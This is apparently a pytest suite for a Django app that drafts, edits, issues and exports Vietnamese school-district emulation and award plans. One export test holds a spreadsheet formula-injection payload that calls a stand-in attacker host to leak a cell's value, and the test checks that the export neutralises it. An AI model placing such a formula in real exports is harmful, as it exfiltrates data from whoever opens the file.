import datetime as dt
import io
from pathlib import Path

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from emulation.documents.numbering import allocate_number
from emulation.enums import BlockRole, DeadlineAction, DocumentType, Role, SchoolLevel
from emulation.models import BlockMembership, Deadline, EmulationBlock
from emulation.tests.factories import (
    DistrictFactory,
    MembershipFactory,
    PeriodFactory,
    PersonFactory,
    SchoolFactory,
    UserFactory,
)
from emulation.tests.queries import stated_queries
from schedules import services
from schedules.enums import LogAction, PlanState
from schedules.models import Milestone, Plan
from schedules.views.plans import PlanList

SEED = (Path(__file__).parent.parent / "fixtures" / "seed003_appendix.txt").read_text(encoding="utf-8")
pytestmark = pytest.mark.django_db


@pytest.fixture
def period(db):
    return PeriodFactory(name="2023-2024", start_date=dt.date(2023, 9, 1), end_date=dt.date(2024, 8, 31))


@pytest.fixture
def dau_tieng(db):
    return DistrictFactory(name="Phòng Giáo dục và Đào tạo huyện Dầu Tiếng", symbol="PGDĐT", place_name="Dầu Tiếng")


@pytest.fixture
def schools(dau_tieng):
    levels = [SchoolLevel.PRESCHOOL, SchoolLevel.PRIMARY, SchoolLevel.LOWER_SECONDARY]
    return [SchoolFactory(parent=dau_tieng, level=level, name=f"Trường {i}") for i, level in enumerate(levels * 2)]


@pytest.fixture
def blocks(period, dau_tieng, schools):
    made = []
    for number, level in enumerate([SchoolLevel.PRESCHOOL, SchoolLevel.PRIMARY, SchoolLevel.LOWER_SECONDARY], 1):
        block = EmulationBlock.objects.create(
            period=period, managing_unit=dau_tieng, number=number, name=f"Khối {number}", level=level
        )
        members = [school for school in schools if school.level == level]
        for index, school in enumerate(members):
            BlockMembership.objects.create(
                block=block, unit=school, role=BlockRole.HEAD if index == 0 else BlockRole.MEMBER
            )
        made.append(block)
    return made


@pytest.fixture
def staff_user(dau_tieng):
    user = UserFactory(username="chuyenvien.dt")
    MembershipFactory(user=user, unit=dau_tieng, role=Role.DISTRICT_STAFF)
    return user


@pytest.fixture
def principal(schools):
    user = UserFactory(username="hieutruong.dt")
    MembershipFactory(user=user, unit=schools[1], role=Role.PRINCIPAL)
    return user


@pytest.fixture
def plan(period, dau_tieng, staff_user):
    return services.create_plan(
        issuing_unit=dau_tieng,
        period=period,
        by=staff_user,
        title="Công tác thi đua, khen thưởng ngành Giáo dục và Đào tạo năm học 2023 - 2024",
        signer_prefix="KT.",
        signer_authority="TRƯỞNG PHÒNG",
        signer_position="PHÓ TRƯỞNG PHÒNG",
        signer_name="Tạ Tấn Tuấn",
        recipients="Các đơn vị trực thuộc Phòng GDĐT;\nLưu: VT, VP, Ban.",
    )


def test_seed_003_import_gives_17_milestones_with_dates(plan, staff_user, blocks):
    milestones = services.import_timeline(plan=plan, by=staff_user, text=SEED)

    assert len(milestones) == 17
    rows = {m.order: m for m in Milestone.objects.filter(plan=plan)}
    assert (rows[1].opens_on, rows[1].due_on) == (None, dt.date(2023, 11, 10))
    assert (rows[3].opens_on, rows[3].due_on) == (dt.date(2023, 11, 1), dt.date(2023, 11, 30))
    assert (rows[5].opens_on, rows[5].due_on) == (dt.date(2024, 2, 1), dt.date(2024, 2, 29))
    assert (rows[8].opens_on, rows[8].due_on) == (dt.date(2024, 3, 15), dt.date(2024, 3, 29))
    assert (rows[16].opens_on, rows[16].due_on) == (dt.date(2024, 8, 12), dt.date(2024, 8, 14))
    assert (rows[17].opens_on, rows[17].due_on) == (None, dt.date(2024, 8, 15))


def test_seed_003_import_maps_actors(plan, staff_user, blocks, schools, dau_tieng):
    services.import_timeline(plan=plan, by=staff_user, text=SEED)
    rows = {m.order: m for m in plan.milestones.prefetch_related("actor_units", "actor_blocks")}

    assert {u.pk for u in rows[1].actor_units.all()} == {s.pk for s in schools}
    assert [b.number for b in rows[3].actor_blocks.all().order_by("number")] == [1, 2, 3]
    heads = {m.unit_id for m in BlockMembership.objects.filter(role=BlockRole.HEAD)}
    assert len(heads) == 3
    assert {u.pk for u in rows[4].actor_units.all()} == heads
    assert [u.pk for u in rows[8].actor_units.all()] == [dau_tieng.pk]
    assert all(not m.actor_problem for m in rows.values())


def test_import_reads_what_counts_as_done(plan, staff_user, blocks):
    services.import_timeline(plan=plan, by=staff_user, text=SEED)

    done = dict(plan.milestones.values_list("order", "done_when"))

    assert (done[2], done[6], done[13], done[9]) == (
        DeadlineAction.REGISTRATION,
        DeadlineAction.INITIATIVE_APPLICATION,
        DeadlineAction.AWARD_DOSSIER,
        DeadlineAction.MANUAL,
    )


def test_import_writes_inactive_deadlines_for_a_draft(plan, staff_user, blocks, schools):
    services.import_timeline(plan=plan, by=staff_user, text=SEED)

    deadline = Deadline.objects.get(milestone__order=2, milestone__plan=plan)

    assert (deadline.action, deadline.is_active, deadline.units.count()) == (
        DeadlineAction.REGISTRATION,
        False,
        len(schools),
    )


def test_import_flags_unreadable_rows_without_guessing(plan, staff_user):
    text = "TT\tNội dung\tThời gian hoàn thành\tĐơn vị thực hiện\n1.\tHọp\tkhi có yêu cầu\tBan Giám hiệu\n"

    [milestone] = services.import_timeline(plan=plan, by=staff_user, text=text)

    assert (milestone.due_on, milestone.due_text, milestone.needs_attention) == (None, "khi có yêu cầu", True)
    assert milestone.date_problem != ""
    assert milestone.actor_problem != ""
    assert milestone.deadline is None


def test_import_of_nothing_readable_saves_nothing(plan, staff_user):
    with pytest.raises(Exception) as error:
        services.import_timeline(plan=plan, by=staff_user, text="xin chào")

    assert error.value.messages == [
        "Không tìm thấy dòng nào có số thứ tự: mỗi dòng phải bắt đầu bằng số thứ tự (1, 2, …)."
    ]
    assert plan.milestones.count() == 0


def test_issue_refuses_milestones_without_date(plan, staff_user):
    services.import_timeline(plan=plan, by=staff_user, text="1.\tHọp\tkhi có yêu cầu\tPhòng GDĐT\n")

    with pytest.raises(Exception) as error:
        services.issue_plan(plan=plan, by=staff_user, issued_on=dt.date(2023, 11, 3))

    assert error.value.messages == ["Hãy đặt ngày cho mốc 1 trước khi ban hành."]
    plan.refresh_from_db()
    assert plan.state == PlanState.DRAFT


def test_issue_numbers_the_plan_and_activates_deadlines(plan, staff_user, blocks, django_capture_on_commit_callbacks):
    services.import_timeline(plan=plan, by=staff_user, text=SEED)

    with django_capture_on_commit_callbacks(execute=True):
        services.issue_plan(plan=plan, by=staff_user, issued_on=dt.date(2023, 11, 3))

    plan.refresh_from_db()
    assert (plan.state, plan.symbol, plan.issued_on) == (PlanState.ISSUED, "01/KH-PGDĐT", dt.date(2023, 11, 3))
    assert Deadline.objects.filter(milestone__plan=plan, is_active=True).count() == 17
    assert [e.action for e in plan.log.order_by("pk")] == [
        LogAction.CREATED,
        LogAction.TIMELINE_IMPORTED,
        LogAction.ISSUED,
    ]


def test_amending_an_issued_milestone_moves_the_deadline_and_logs(plan, staff_user, blocks):
    services.import_timeline(plan=plan, by=staff_user, text=SEED)
    plan = services.issue_plan(plan=plan, by=staff_user, issued_on=dt.date(2023, 11, 3))
    milestone = plan.milestones.get(order=2)
    milestone.due_on = dt.date(2023, 11, 17)

    services.save_milestone(milestone=milestone, by=staff_user, comment="Lùi hạn nộp")

    milestone.deadline.refresh_from_db()
    assert milestone.deadline.last_day == dt.date(2023, 11, 17)
    assert plan.log.first().comment == "Lùi hạn nộp"


# Views: an allowed and a denied case each.


def test_plan_list_shows_issued_plans_to_principals_but_not_drafts(client, plan, principal, staff_user, blocks):
    client.force_login(principal)
    assert list(client.get(reverse("schedules:plan-list")).context["plans"]) == []

    services.import_timeline(plan=plan, by=staff_user, text=SEED)
    services.issue_plan(plan=plan, by=staff_user, issued_on=dt.date(2023, 11, 3))

    assert [p.pk for p in client.get(reverse("schedules:plan-list")).context["plans"]] == [plan.pk]


def test_plan_list_query_count_does_not_grow(client, staff_user, period, dau_tieng):
    client.force_login(staff_user)
    services.create_plan(issuing_unit=dau_tieng, period=period, by=staff_user, title="A", signer_authority="TP",
                         signer_name="X")  # fmt: skip
    with CaptureQueriesContext(connection) as one:
        client.get(reverse("schedules:plan-list"))
    for title in ("B", "C"):
        services.create_plan(issuing_unit=dau_tieng, period=period, by=staff_user, title=title,
                             signer_authority="TP", signer_name="X")  # fmt: skip

    with CaptureQueriesContext(connection) as three:
        response = client.get(reverse("schedules:plan-list"))

    assert len(response.context["plans"]) == 3
    assert len(one) == len(three)


def test_plan_list_keeps_its_query_budget(client, staff_user, period, dau_tieng, django_assert_num_queries):
    for title in ("A", "B", "C"):
        services.create_plan(issuing_unit=dau_tieng, period=period, by=staff_user, title=title,
                             signer_authority="TP", signer_name="X")  # fmt: skip
    client.force_login(staff_user)

    with django_assert_num_queries(stated_queries(PlanList)):
        response = client.get(reverse("schedules:plan-list"))

    assert len(response.context["plans"]) == 3


def test_plan_create_by_office_staff(client, staff_user, dau_tieng, period):
    client.force_login(staff_user)

    response = client.post(
        reverse("schedules:plan-create"),
        {"issuing_unit": dau_tieng.pk, "period": period.pk, "title": "Kế hoạch thi đua", "signer_prefix": "",
         "signer_authority": "TRƯỞNG PHÒNG", "signer_name": "Tạ Tấn Tuấn",
         "sections-TOTAL_FORMS": "2", "sections-INITIAL_FORMS": "0",
         "sections-0-order": "1", "sections-0-heading": "I. MỤC ĐÍCH, YÊU CẦU", "sections-0-body": "Động viên …",
         "sections-1-order": "", "sections-1-heading": "", "sections-1-body": ""},
    )  # fmt: skip

    plan = Plan.objects.get()
    assert response["Location"] == reverse("schedules:plan-detail", args=[plan.pk])
    assert plan.annex_title == "KHUNG KẾ HOẠCH THỜI GIAN CÔNG TÁC THI ĐUA, KHEN THƯỞNG NĂM HỌC 2023 - 2024"
    assert list(plan.sections.values_list("order", "heading", "body")) == [(1, "I. MỤC ĐÍCH, YÊU CẦU", "Động viên …")]


def test_plan_create_denied_for_principal(client, principal):
    client.force_login(principal)

    assert client.get(reverse("schedules:plan-create")).status_code == 404


def test_plan_detail_of_other_district_is_not_found(client, plan):
    other = UserFactory(username="other.staff")
    MembershipFactory(user=other, unit=DistrictFactory(), role=Role.DISTRICT_STAFF)
    client.force_login(other)

    assert client.get(reverse("schedules:plan-detail", args=[plan.pk])).status_code == 404


def test_plan_detail_for_its_office(client, plan, staff_user):
    client.force_login(staff_user)

    response = client.get(reverse("schedules:plan-detail", args=[plan.pk]))

    assert (response.status_code, response.context["can_edit"], response.context["can_issue"]) == (200, True, True)


def test_timeline_export_writes_a_milestone_that_looks_like_a_formula_as_text(client, plan, staff_user):
    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://attacker.example/?d="&B3,"Mở")'
    services.import_timeline(plan=plan, by=staff_user, text=f"1.\t{formula}\tNgày 15/8/2024\tPhòng GDĐT\n")
    client.force_login(staff_user)

    response = client.get(reverse("schedules:plan-timeline-xlsx", args=[plan.pk]))

    cell = load_workbook(io.BytesIO(response.content)).active["B2"]
    assert (cell.data_type, cell.value) == ("s", formula)


def test_timeline_export_of_a_draft_is_named_after_the_plan_and_its_period(client, plan, staff_user):
    client.force_login(staff_user)

    response = client.get(reverse("schedules:plan-timeline-xlsx", args=[plan.pk]))

    assert response["Content-Disposition"] == f'attachment; filename="khung-thoi-gian-du-thao-{plan.pk}-2023-2024.xlsx"'


def test_milestone_fix_clears_the_flag(client, plan, staff_user, dau_tieng):
    services.import_timeline(plan=plan, by=staff_user, text="1.\tHọp\tkhi có yêu cầu\tBan Giám hiệu\n")
    milestone = plan.milestones.get()
    client.force_login(staff_user)

    response = client.post(
        reverse("schedules:milestone-update", args=[plan.pk, milestone.pk]),
        {"order": 1, "content": "Họp", "due_text": "khi có yêu cầu", "due_on": "20/11/2023",
         "actor_units": [dau_tieng.pk], "done_when": "manual", "reminder_offsets": "[7, 3, 1]",
         "remind_overdue": "on"},
    )  # fmt: skip

    assert response.status_code == 302
    milestone.refresh_from_db()
    assert (milestone.due_on, milestone.needs_attention, milestone.deadline.units.count()) == (
        dt.date(2023, 11, 20),
        False,
        1,
    )


def test_milestone_update_denied_for_principal(client, plan, staff_user, principal):
    services.import_timeline(plan=plan, by=staff_user, text="1.\tHọp\tNgày 20/11/2023\tPhòng GDĐT\n")
    client.force_login(principal)

    response = client.get(reverse("schedules:milestone-update", args=[plan.pk, plan.milestones.get().pk]))

    assert response.status_code == 404


def test_issue_view_by_office_staff(client, plan, staff_user, blocks):
    services.import_timeline(plan=plan, by=staff_user, text=SEED)
    client.force_login(staff_user)

    with time_machine.travel(timezone.make_aware(dt.datetime(2023, 11, 3, 9)), tick=False):
        response = client.post(reverse("schedules:plan-issue", args=[plan.pk]), {"issued_on": "03/11/2023"})

    assert response.status_code == 302
    plan.refresh_from_db()
    assert plan.symbol == "01/KH-PGDĐT"


def test_issue_view_refuses_a_date_far_from_the_plan_s_year(client, plan, staff_user, blocks):
    services.import_timeline(plan=plan, by=staff_user, text=SEED)
    client.force_login(staff_user)

    response = client.post(reverse("schedules:plan-issue", args=[plan.pk]), {"issued_on": "31/12/9999"})

    assert response.status_code == 200
    assert response.context["form"].errors == {
        "issued_on": ["Hãy chọn một ngày từ 01/09/2022 đến 31/08/2025: ngày 31/12/9999 cách quá xa kỳ 2023-2024."]
    }
    plan.refresh_from_db()
    assert (plan.state, plan.issued_number) == (PlanState.DRAFT, None)


def test_issue_view_denied_for_principal(client, plan, principal):
    client.force_login(principal)

    assert client.post(reverse("schedules:plan-issue", args=[plan.pk]), {"issued_on": "03/11/2023"}).status_code == 404


# --- Editing a draft -------------------------------------------------------------------------------------------


def _plan_data(plan, **changes):
    data = {
        "title": plan.title, "preamble": plan.preamble, "signer_prefix": plan.signer_prefix,
        "signer_authority": plan.signer_authority, "signer_position": plan.signer_position,
        "signer_name": plan.signer_name, "recipients": plan.recipients, "annex_title": plan.annex_title,
        "sections-TOTAL_FORMS": "1", "sections-INITIAL_FORMS": "0",
        "sections-0-order": "", "sections-0-heading": "", "sections-0-body": "",
    }  # fmt: skip
    return {**data, **changes}


def test_plan_update_saves_the_fields_and_sections_and_logs_them(client, plan, staff_user):
    kept = plan.sections.create(order=1, heading="I. MỤC ĐÍCH", body="Cũ")
    dropped = plan.sections.create(order=2, heading="II. NỘI DUNG", body="Bỏ")
    client.force_login(staff_user)

    response = client.post(
        reverse("schedules:plan-update", args=[plan.pk]),
        _plan_data(
            plan, title="Kế hoạch thi đua năm học 2023 - 2024", signer_name="Huỳnh Thị Thu Hà",
            **{"sections-TOTAL_FORMS": "3", "sections-INITIAL_FORMS": "2",
               "sections-0-id": kept.pk, "sections-0-order": "1", "sections-0-heading": "I. MỤC ĐÍCH, YÊU CẦU",
               "sections-0-body": "Mới",
               "sections-1-id": dropped.pk, "sections-1-order": "2", "sections-1-heading": "II. NỘI DUNG",
               "sections-1-body": "Bỏ", "sections-1-DELETE": "on",
               "sections-2-order": "3", "sections-2-heading": "III. TỔ CHỨC THỰC HIỆN", "sections-2-body": "Các đơn vị"},
        ),
    )  # fmt: skip

    plan.refresh_from_db()
    assert response["Location"] == reverse("schedules:plan-detail", args=[plan.pk])
    assert (plan.title, plan.signer_name, plan.state) == (
        "Kế hoạch thi đua năm học 2023 - 2024",
        "Huỳnh Thị Thu Hà",
        PlanState.DRAFT,
    )
    assert list(plan.sections.values_list("order", "heading", "body")) == [
        (1, "I. MỤC ĐÍCH, YÊU CẦU", "Mới"),
        (3, "III. TỔ CHỨC THỰC HIỆN", "Các đơn vị"),
    ]
    assert list(plan.log.order_by("pk").values_list("action", "comment", "by")) == [
        (LogAction.CREATED, "", staff_user.pk),
        (LogAction.EDITED, "", staff_user.pk),
        (LogAction.EDITED, "Bỏ mục “II. NỘI DUNG”", staff_user.pk),
        (LogAction.EDITED, "Điều chỉnh mục “I. MỤC ĐÍCH, YÊU CẦU”", staff_user.pk),
        (LogAction.EDITED, "Thêm mục “III. TỔ CHỨC THỰC HIỆN”", staff_user.pk),
    ]


def test_plan_update_form_shows_the_draft(client, plan, staff_user):
    client.force_login(staff_user)

    response = client.get(reverse("schedules:plan-update", args=[plan.pk]))

    assert (response.status_code, response.context["form"].initial["title"]) == (200, plan.title)


def test_plan_update_with_an_error_saves_nothing(client, plan, staff_user):
    client.force_login(staff_user)

    response = client.post(reverse("schedules:plan-update", args=[plan.pk]), _plan_data(plan, title=""))

    plan.refresh_from_db()
    assert response.status_code == 200
    assert plan.title == "Công tác thi đua, khen thưởng ngành Giáo dục và Đào tạo năm học 2023 - 2024"
    assert list(plan.log.values_list("action", flat=True)) == [LogAction.CREATED]


def test_plan_update_denied_for_principal_and_other_office(client, plan, principal):
    other = UserFactory(username="other.office.update")
    MembershipFactory(user=other, unit=DistrictFactory(), role=Role.DISTRICT_STAFF)
    url = reverse("schedules:plan-update", args=[plan.pk])

    client.force_login(principal)
    as_principal = client.post(url, _plan_data(plan, title="Đổi"))
    client.force_login(other)
    as_other = client.post(url, _plan_data(plan, title="Đổi"))

    plan.refresh_from_db()
    assert (as_principal.status_code, as_other.status_code) == (404, 404)
    assert plan.title == "Công tác thi đua, khen thưởng ngành Giáo dục và Đào tạo năm học 2023 - 2024"


def test_plan_update_denied_once_issued(client, plan, staff_user, blocks):
    services.import_timeline(plan=plan, by=staff_user, text=SEED)
    services.issue_plan(plan=plan, by=staff_user, issued_on=dt.date(2023, 11, 3))
    client.force_login(staff_user)

    response = client.post(reverse("schedules:plan-update", args=[plan.pk]), _plan_data(plan, title="Đổi"))

    plan.refresh_from_db()
    assert response.status_code == 404
    assert plan.title == "Công tác thi đua, khen thưởng ngành Giáo dục và Đào tạo năm học 2023 - 2024"


def test_milestone_create_reads_reminder_days_typed_with_commas(client, plan, staff_user, dau_tieng):
    client.force_login(staff_user)

    response = client.post(
        reverse("schedules:milestone-create", args=[plan.pk]),
        {"order": 1, "content": "Nộp báo cáo", "due_on": "20/11/2023", "actor_units": [dau_tieng.pk],
         "done_when": "manual", "reminder_offsets": "3, 7, 1, 3", "remind_overdue": "on"},
    )  # fmt: skip

    assert response.status_code == 302
    assert plan.milestones.get().reminder_offsets == [7, 3, 1]


def test_milestone_create_denied_for_principal(client, plan, principal, dau_tieng):
    client.force_login(principal)

    response = client.post(
        reverse("schedules:milestone-create", args=[plan.pk]),
        {"order": 1, "content": "Nộp báo cáo", "due_on": "20/11/2023", "actor_units": [dau_tieng.pk],
         "done_when": "manual", "reminder_offsets": "7, 3, 1"},
    )  # fmt: skip

    assert response.status_code == 404
    assert plan.milestones.count() == 0


def _sections_of(plan):
    return list(plan.sections.order_by("order", "pk").values_list("order", "heading"))


def test_new_sections_go_after_the_others_without_a_number_typed(client, plan, staff_user):
    kept = plan.sections.create(order=1, heading="MỤC ĐÍCH, YÊU CẦU", body="Cũ")
    last = plan.sections.create(order=5, heading="NỘI DUNG THỰC HIỆN", body="Cũ")
    client.force_login(staff_user)

    response = client.post(
        reverse("schedules:plan-update", args=[plan.pk]),
        _plan_data(
            plan,
            **{"sections-TOTAL_FORMS": "4", "sections-INITIAL_FORMS": "2",
               "sections-0-id": kept.pk, "sections-0-heading": kept.heading, "sections-0-body": "Cũ",
               "sections-1-id": last.pk, "sections-1-heading": last.heading, "sections-1-body": "Cũ",
               "sections-2-heading": "TỔ CHỨC THỰC HIỆN", "sections-2-body": "Các đơn vị",
               "sections-3-heading": "KIẾN NGHỊ", "sections-3-body": "Không"},
        ),
    )  # fmt: skip

    assert response.status_code == 302
    assert _sections_of(plan) == [
        (1, "MỤC ĐÍCH, YÊU CẦU"),
        (5, "NỘI DUNG THỰC HIỆN"),
        (6, "TỔ CHỨC THỰC HIỆN"),
        (7, "KIẾN NGHỊ"),
    ]


def test_plan_form_numbers_the_sections_as_printed(client, plan, staff_user):
    plan.sections.create(order=1, heading="MỤC ĐÍCH, YÊU CẦU")
    plan.sections.create(order=2, heading="NỘI DUNG THỰC HIỆN")
    client.force_login(staff_user)

    response = client.get(reverse("schedules:plan-update", args=[plan.pk]))

    assert [form.printed_number for form in response.context["sections"]] == ["I", "II", "", "", ""]
    assert "order" not in response.context["sections"].forms[0].fields


def test_section_move_by_office_staff(client, plan, staff_user):
    plan.sections.create(order=1, heading="MỤC ĐÍCH, YÊU CẦU")
    second = plan.sections.create(order=2, heading="NỘI DUNG THỰC HIỆN")
    client.force_login(staff_user)

    response = client.post(reverse("schedules:plan-section-move", args=[plan.pk, second.pk]), {"direction": "up"})
    detail = client.get(reverse("schedules:plan-detail", args=[plan.pk]))

    assert response["Location"] == reverse("schedules:plan-detail", args=[plan.pk]) + "#sections"
    assert _sections_of(plan) == [(1, "NỘI DUNG THỰC HIỆN"), (2, "MỤC ĐÍCH, YÊU CẦU")]
    assert [s["heading"] for s in detail.context["sections"]] == ["I. NỘI DUNG THỰC HIỆN", "II. MỤC ĐÍCH, YÊU CẦU"]


def test_section_move_denied_for_principal_and_for_a_wrong_direction(client, plan, staff_user, principal):
    plan.sections.create(order=1, heading="MỤC ĐÍCH, YÊU CẦU")
    second = plan.sections.create(order=2, heading="NỘI DUNG THỰC HIỆN")
    url = reverse("schedules:plan-section-move", args=[plan.pk, second.pk])

    client.force_login(principal)
    as_principal = client.post(url, {"direction": "up"})
    client.force_login(staff_user)
    sideways = client.post(url, {"direction": "left"})

    assert (as_principal.status_code, sideways.status_code) == (404, 404)
    assert _sections_of(plan) == [(1, "MỤC ĐÍCH, YÊU CẦU"), (2, "NỘI DUNG THỰC HIỆN")]


def test_issue_view_with_a_later_date_says_when_the_units_are_told(client, plan, staff_user, blocks):
    services.import_timeline(plan=plan, by=staff_user, text=SEED)
    client.force_login(staff_user)

    with time_machine.travel(timezone.make_aware(dt.datetime(2023, 11, 1, 9)), tick=False):
        response = client.post(
            reverse("schedules:plan-issue", args=[plan.pk]), {"issued_on": "03/11/2023", "confirm": "on"}, follow=True
        )

    plan.refresh_from_db()
    assert (plan.symbol, plan.announced_at) == ("01/KH-PGDĐT", None)
    assert [str(m) for m in response.context["messages"]] == [
        "Đã ban hành Kế hoạch 01/KH-PGDĐT.",
        "Các đơn vị sẽ được thông báo và các hạn bắt đầu có hiệu lực vào ngày 03/11/2023.",
    ]
    assert "Các đơn vị sẽ được thông báo vào ngày 03/11/2023" in response.content.decode()


# Warnings that ask for a confirmation before going on.

CONFIRM_LABEL = "Tôi đã xem cảnh báo và vẫn muốn tiếp tục"


def _new_plan_data(dau_tieng, period, **changes):
    data = {"issuing_unit": dau_tieng.pk, "period": period.pk, "title": "Kế hoạch thi đua lần hai",
            "signer_authority": "TRƯỞNG PHÒNG", "signer_name": "Tạ Tấn Tuấn",
            "sections-TOTAL_FORMS": "0", "sections-INITIAL_FORMS": "0"}  # fmt: skip
    return {**data, **changes}


def test_a_second_plan_for_the_same_office_and_period_asks_for_a_confirmation(
    client, plan, staff_user, dau_tieng, period
):
    client.force_login(staff_user)
    url = reverse("schedules:plan-create")

    form_page = client.get(url)
    warned = client.post(url, _new_plan_data(dau_tieng, period))
    confirmed = client.post(url, _new_plan_data(dau_tieng, period, confirm="on"))

    assert "confirm" not in form_page.context["form"].fields
    assert warned.status_code == 200
    assert warned.context["form"].found_warnings == [
        "Phòng Giáo dục và Đào tạo huyện Dầu Tiếng đã có kế hoạch cho kỳ 2023-2024: dự thảo “Công tác thi đua, "
        "khen thưởng ngành Giáo dục và Đào tạo năm học 2023 - 2024”. Hãy kiểm tra để không lập trùng một kế hoạch "
        "hai lần."
    ]
    assert warned.context["form"].errors == {
        "confirm": ["Hãy đọc các cảnh báo ở trên, rồi đánh dấu ô này nếu vẫn muốn tiếp tục."]
    }
    assert CONFIRM_LABEL in warned.content.decode()
    assert confirmed.status_code == 302
    assert list(Plan.objects.order_by("pk").values_list("title", flat=True)) == [
        plan.title,
        "Kế hoạch thi đua lần hai",
    ]


def test_a_plan_for_another_period_is_created_without_a_warning(client, plan, staff_user, dau_tieng):
    other = PeriodFactory(
        name="2024-2025", start_date=dt.date(2024, 9, 1), end_date=dt.date(2025, 8, 31), is_current=False
    )
    client.force_login(staff_user)

    response = client.post(reverse("schedules:plan-create"), _new_plan_data(dau_tieng, other))

    assert response.status_code == 302
    assert Plan.objects.filter(period=other).count() == 1


def test_issue_with_deadlines_already_past_lists_them_and_asks_for_a_confirmation(client, plan, staff_user, blocks):
    services.import_timeline(plan=plan, by=staff_user, text=SEED)
    client.force_login(staff_user)
    url = reverse("schedules:plan-issue", args=[plan.pk])

    with time_machine.travel(timezone.make_aware(dt.datetime(2023, 11, 20, 9)), tick=False):
        warned = client.post(url, {"issued_on": "20/11/2023"})
        plan.refresh_from_db()
        state_after_warning = plan.state
        confirmed = client.post(url, {"issued_on": "20/11/2023", "confirm": "on"})

    assert warned.status_code == 200
    assert warned.context["form"].found_warnings == [
        "Mốc 1, “Triển khai công tác thi đua, khen thưởng và tổ chức đăng ký thi đua, đăng ký vi…”: "
        "hạn cuối 10/11/2023 đã qua vào ngày 20/11/2023.",
        "Mốc 2, “Nộp hồ sơ đăng ký thi đua, khen thưởng; Kế hoạch công tác thi đua, khen thưởng;…”: "
        "hạn cuối 10/11/2023 đã qua vào ngày 20/11/2023.",
    ]
    assert state_after_warning == PlanState.DRAFT
    assert confirmed.status_code == 302
    plan.refresh_from_db()
    assert (plan.state, plan.symbol) == (PlanState.ISSUED, "01/KH-PGDĐT")


def test_issue_with_a_later_date_asks_for_a_confirmation(client, plan, staff_user, blocks):
    services.import_timeline(plan=plan, by=staff_user, text=SEED)
    client.force_login(staff_user)

    with time_machine.travel(timezone.make_aware(dt.datetime(2023, 11, 1, 9)), tick=False):
        response = client.post(reverse("schedules:plan-issue", args=[plan.pk]), {"issued_on": "03/11/2023"})

    assert response.context["form"].found_warnings == [
        "Ngày 03/11/2023 là một ngày sau hôm nay: đến đúng ngày đó các đơn vị mới được thông báo về kế hoạch và "
        "các hạn mới có hiệu lực."
    ]
    plan.refresh_from_db()
    assert (plan.state, plan.issued_number) == (PlanState.DRAFT, None)


def test_issue_dated_before_the_last_number_of_the_year_asks_for_a_confirmation(
    client, plan, staff_user, blocks, dau_tieng
):
    services.import_timeline(plan=plan, by=staff_user, text=SEED)
    allocate_number(unit=dau_tieng, doc_type=DocumentType.PLAN, issued_on=dt.date(2023, 11, 4), title="Kế hoạch khác")
    client.force_login(staff_user)
    url = reverse("schedules:plan-issue", args=[plan.pk])

    with time_machine.travel(timezone.make_aware(dt.datetime(2023, 11, 5, 9)), tick=False):
        warned = client.post(url, {"issued_on": "03/11/2023"})
        confirmed = client.post(url, {"issued_on": "03/11/2023", "confirm": "on"})

    assert warned.context["form"].found_warnings == [
        "Kế hoạch 01/KH-PGDĐT đã ban hành ngày 04/11/2023, sau ngày 03/11/2023: kế hoạch này nhận số tiếp theo, "
        "mà số văn bản phải theo thứ tự ngày ban hành."
    ]
    assert confirmed.status_code == 302
    plan.refresh_from_db()
    assert plan.symbol == "02/KH-PGDĐT"


def test_issue_dated_after_the_last_number_goes_through_without_a_warning(client, plan, staff_user, blocks, dau_tieng):
    services.import_timeline(plan=plan, by=staff_user, text=SEED)
    allocate_number(unit=dau_tieng, doc_type=DocumentType.PLAN, issued_on=dt.date(2023, 11, 2), title="Kế hoạch khác")
    client.force_login(staff_user)

    with time_machine.travel(timezone.make_aware(dt.datetime(2023, 11, 3, 9)), tick=False):
        response = client.post(reverse("schedules:plan-issue", args=[plan.pk]), {"issued_on": "03/11/2023"})

    assert response.status_code == 302
    plan.refresh_from_db()
    assert plan.symbol == "02/KH-PGDĐT"


def test_a_new_plan_s_signer_is_the_head_of_the_office(client, staff_user, dau_tieng):
    head = PersonFactory(full_name="Tạ Tấn Tuấn", position="Trưởng phòng", unit=dau_tieng)
    MembershipFactory(unit=dau_tieng, role=Role.DISTRICT_HEAD, person=head)
    client.force_login(staff_user)

    form = client.get(reverse("schedules:plan-create")).context["form"]

    assert (form["issuing_unit"].initial, form["signer_name"].initial, form["signer_authority"].initial) == (
        dau_tieng.pk,
        "Tạ Tấn Tuấn",
        "TRƯỞNG PHÒNG",
    )


def test_a_plan_being_edited_keeps_its_own_signer(client, plan, staff_user, dau_tieng):
    head = PersonFactory(full_name="Huỳnh Thị Thu Hà", position="Trưởng phòng", unit=dau_tieng)
    MembershipFactory(unit=dau_tieng, role=Role.DISTRICT_HEAD, person=head)
    client.force_login(staff_user)

    form = client.get(reverse("schedules:plan-update", args=[plan.pk])).context["form"]

    assert (form["signer_name"].value(), form["signer_authority"].value()) == ("Tạ Tấn Tuấn", "TRƯỞNG PHÒNG")


def test_the_new_plan_page_leads_to_opening_a_calendar_year_and_starting_the_numbering(client, staff_user):
    client.force_login(staff_user)

    page = client.get(reverse("schedules:plan-create")).content.decode()

    assert f'href="{reverse("emulation:calendar-year-create")}?next=/plans/new/"' in page
    assert f'href="{reverse("emulation:number-start")}?next=/plans/new/"' in page
